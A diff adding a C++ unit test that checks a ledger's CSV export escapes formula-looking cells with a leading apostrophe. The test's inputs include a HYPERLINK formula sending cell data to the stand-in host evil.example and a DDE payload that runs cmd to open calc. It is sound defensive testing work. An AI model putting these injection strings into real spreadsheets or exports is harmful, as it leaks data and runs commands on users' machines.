@@ -313,6 +313,22 @@ TEST_F(ScriptedLedgerTest, CsvHasABomTheHeadersAndOneLinePerRow) {
   EXPECT_EQ(csv.substr(3, csv.find("\r\n") - 3).find("序号,所属部分,工作任务,牵头单位,责任单位,落实单位"), 0u);
 }
 
+TEST_F(ScriptedLedgerTest, AUnitsTextNeverBecomesAFormulaInTheCsv) {
+  Expect(UnitOf(kEducation), At("2021-10-16", 10),
+         ReportProgress{1, kEducation, 30, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "",
+                        "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2"});
+  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-16"));
+  ASSERT_TRUE(l.ok());
+  const std::string csv = LedgerCsv(*l);
+  // Each formula-looking cell starts with an apostrophe, inside its quotes if quoted.
+  EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",'@SUM(1+1)*cmd|' /C calc'!A0,"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",'+1-2,"), std::string::npos) << csv;
+  for (const char* bad : {",=", ",@", ",+", ",-", ",\"=", ",\"@"}) EXPECT_EQ(csv.find(bad), std::string::npos) << bad;
+  // The xlsx and json keep the text as it was written.
+  EXPECT_EQ(Row(*l, 1, kEducation).contact, "+1-2");
+}
+
 // ---- the scorecard ------------------------------------------------------
 
 const UnitScore& ScoreOf(const Scorecard& c, const std::string& unit) {
